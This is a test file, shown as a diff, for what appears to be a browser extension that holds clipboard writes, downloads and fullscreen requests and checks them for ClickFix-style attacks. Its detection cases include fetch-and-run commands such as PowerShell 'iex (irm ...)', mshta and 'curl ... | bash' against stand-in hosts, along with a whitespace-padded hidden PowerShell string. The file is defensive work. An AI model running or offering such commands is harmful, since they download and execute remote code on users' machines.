@@ -1,0 +1,86 @@
+'use strict';
+/* The pure parts of the holds (docs/extension.md, "Holding"). */
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const AG = require('../../lib/shared.js');
+
+test('holdDetail: clipboard text as it would be pasted, bounded, start and end kept', () => {
+  const cases = [
+    { name: 'plain', type: 'clipboard-write', in: 'npm install quill', want: 'npm install quill' },
+    { name: 'invisible characters and white space', type: 'clipboard-write', in: 'power\u200bshell\n\n  -c\u00a0iex', want: 'powershell -c iex' },
+    { name: 'other events are only cut', type: 'dialog', in: 'a  b', want: 'a  b' },
+  ];
+  for (const c of cases) assert.equal(AG.holdDetail(c.type, c.in), c.want, c.name);
+  const padded = 'Verification ID: 3141' + ' '.repeat(5000) + '\n'.repeat(300) + 'x'.repeat(3000) + ' powershell -w hidden iex';
+  const d = AG.holdDetail('clipboard-write', padded);
+  assert.ok(d.length <= AG.LIMITS.detail, 'bounded');
+  assert.ok(d.startsWith('Verification ID: 3141'), 'start kept');
+  assert.ok(d.endsWith('powershell -w hidden iex'), 'end kept: padding cannot push the command out');
+  assert.equal(AG.holdDetail('clipboard-write', undefined), '');
+});
+
+test('looksLikeCommand: ClickFix commands yes, ordinary text and coupon codes no', () => {
+  const yes = ['powershell -w hidden -c "iex (irm https://x.example/a)"', 'mshta https://x.example/a.hta', 'cmd /c start x',
+    'curl -fsSL https://x.example/i.sh | bash', 'echo aGk= | base64 -d | sh', 'conhost --headless powershell', 'rundll32 x.dll,Run'];
+  const no = ['SPRING-2026', 'npm install quill', 'https://example.com/article', 'Thank you for your order', 'git clone https://x.example/r.git'];
+  for (const t of yes) assert.equal(AG.looksLikeCommand(t), true, t);
+  for (const t of no) assert.equal(AG.looksLikeCommand(t), false, t);
+});
+
+test('isExecutable: programs, scripts, installers and app packages, by name or MIME type', () => {
+  const yes = [['ChromeUpdate.exe', ''], ['setup.MSI', ''], ['update.apk', ''], ['fix.ps1', ''], ['https://x.example/a.hta?x=1', ''],
+    ['download', 'application/x-msdownload'], ['file', 'application/vnd.android.package-archive; charset=binary'], ['invoice.pdf.exe', '']];
+  const no = [['report.pdf', 'application/pdf'], ['photo.jpg', ''], ['exe.txt', 'text/plain'], ['notes.zip', 'application/zip'], ['', '']];
+  for (const [n, m] of yes) assert.equal(AG.isExecutable(n, m), true, n + ' ' + m);
+  for (const [n, m] of no) assert.equal(AG.isExecutable(n, m), false, n + ' ' + m);
+});
+
+test('holdFallback: without a verdict nothing irreversible happens, and nothing waits for ever', () => {
+  const cases = [
+    ['clipboard-write', 'powershell -c iex x', false, 'refuse'],
+    ['clipboard-write', 'SPRING-2026', true, 'pass'],
+    ['notification', '', true, 'pass'],
+    ['notification', '', false, 'refuse'],
+    ['camera', '', false, 'refuse'],
+    ['keyboard-lock', '', true, 'refuse'],
+    ['fullscreen', '', true, 'refuse'],
+    ['pointer-lock', '', true, 'refuse'],
+  ];
+  for (const [type, detail, gesture, want] of cases) assert.equal(AG.holdFallback(type, detail, gesture), want, `${type} ${detail} ${gesture}`);
+  assert.ok(AG.holdBound('clipboard-write') < 5000, 'clipboard writes still inside the 5 s user activation');
+  assert.ok(AG.holdBound('fullscreen') < 5000, 'full screen still inside the user activation');
+});
+
+test('within: the value in time, else null; a rejection is null', async () => {
+  const timers = { t: [], setTimeout(f, ms) { this.t.push(f); return this.t.length; }, clearTimeout() {} };
+  let resolve;
+  const late = AG.within(new Promise((r) => { resolve = r; }), 10, timers);
+  timers.t[0]();
+  resolve('allow');
+  assert.equal(await late, null);
+  assert.deepEqual(await AG.within(Promise.resolve({ verdict: 'block' }), 10000), { verdict: 'block' });
+  assert.equal(await AG.within(Promise.reject(new Error('x')), 10000), null);
+});
+
+test('downloadPageMatch and downloadDetail: which tab started a download, and what the host is told', () => {
+  const item = { url: 'https://cdn.example.net/ChromeUpdate.exe', referrer: 'https://chrome-update.example.com/page#x', mime: 'application/octet-stream', filename: '/home/a/Downloads/ChromeUpdate.exe' };
+  assert.equal(AG.downloadPageMatch(item, 'https://chrome-update.example.com/page'), 2);
+  assert.equal(AG.downloadPageMatch(item, 'https://chrome-update.example.com/other'), 1);
+  assert.equal(AG.downloadPageMatch(item, 'https://cdn.example.net/'), 0, 'the referrer decides when there is one');
+  const blob = { url: 'blob:https://fake.example.org/1c2d', referrer: '' };
+  assert.equal(AG.downloadPageMatch(blob, 'https://fake.example.org/'), 1);
+  assert.equal(AG.downloadPageMatch({ url: 'data:application/octet-stream,MZ', referrer: '' }, 'https://fake.example.org/'), 0);
+  assert.equal(AG.downloadDetail(item), 'ChromeUpdate.exe application/octet-stream https://cdn.example.net/ChromeUpdate.exe');
+  assert.equal(AG.downloadDetail({ url: 'https://x.example/a/setup.msi?v=2' }), 'setup.msi  https://x.example/a/setup.msi?v=2');
+});
+
+test('EventRecorder.note: a held action is judged on what it does now', () => {
+  const r = new AG.EventRecorder();
+  r.record('clipboard-write', 'first text', true, 10);
+  r.record('clipboard-write', 'second text', true, 20);
+  assert.equal(r.list()[0].detail, 'first text');
+  r.note('clipboard-write', 'second text');
+  assert.equal(r.list()[0].detail, 'second text');
+  r.note('not-recorded', 'x');
+  assert.equal(r.list().length, 1);
+});
